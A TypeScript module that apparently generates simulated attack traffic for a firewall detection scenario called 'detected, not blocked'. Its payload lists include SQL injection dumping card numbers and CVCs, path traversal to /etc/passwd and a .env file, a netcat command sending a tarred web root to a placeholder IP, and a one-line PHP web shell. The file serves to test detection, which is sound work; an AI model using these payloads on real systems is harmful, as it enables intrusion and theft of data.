import {type Chapter, createDice, type Dice, encode, spread, type Step} from '../script.ts';
import {makeNoise} from './background.ts';

const length = 34_000;

const probes = [
	"1' OR 'a'='a",
	'1 UNION SELECT login,secret FROM staff',
	'<script>document.write(1)</script>',
	'../../../../etc/passwd',
	'; cat /etc/passwd',
];

const theft = [
	"-1' UNION SELECT name,card,cvc FROM orders LIMIT 20-- -",
	'../../../../home/deploy/.env',
	'; tar cz /var/www | nc 203.0.113.66 9000',
	'<?php file_put_contents("x.php", $_POST["c"]); ?>',
];

function makeAttack(dice: Dice, at: number, index: number): Step {
	const isLate = at > length * 0.6;
	const text = encode(dice.pick(isLate ? theft : probes));
	const client = index % 6 === 0 ? '2001:db8:dead::11' : '203.0.113.7';
	return {
		at,
		client,
		connection: `${client} ${index % 3}`,
		...(index % 4 === 0
			? {method: 'POST', host: 'api.test', target: '/v2/report', body: `field=${text}&format=csv`}
			: {target: `/product?id=${text}`}),
	};
}

/**
The engine only watches: one address tries everything, finds what works and takes it; nobody stops it.
*/
export function makeDetectedChapter(): Chapter {
	const dice = createDice(707);
	const attacks = spread(dice, 90, 300, length).map((at, index) => makeAttack(dice, at, index));
	return {
		title: 'detected, not blocked',
		name: 'detected',
		engine: 'DetectionOnly',
		paranoia: 1,
		threshold: 5,
		length,
		steps: [...makeNoise(dice, 12, 0, length), ...attacks],
	};
}
